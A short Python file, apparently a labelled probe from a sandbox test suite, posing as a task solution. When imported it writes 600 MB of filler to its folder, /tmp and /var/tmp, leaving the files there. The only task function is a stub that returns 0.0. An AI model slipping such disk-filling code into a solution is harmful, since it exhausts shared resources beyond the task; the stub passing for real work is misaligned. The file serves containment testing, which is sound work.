# what: Writes 600 MB to its folder, to /tmp and to /var/tmp, and leaves them there.
# gains: resources
# where: solution
# fires: stdout text `FIRED fills_tmp`
# stock: succeeds

import os

print("FIRED fills_tmp", flush=True)
for folder in (".", "/tmp", "/var/tmp"):
    try:
        with open(folder + "/attack_fill.bin", "wb", 0) as file:
            for _ in range(75):
                file.write(bytes(8 << 20))
        print("FILLED", folder)
    except OSError as error:
        print("held:", folder, error)


def conv_single_step(a_slice_prev, W, b):
    return 0.0
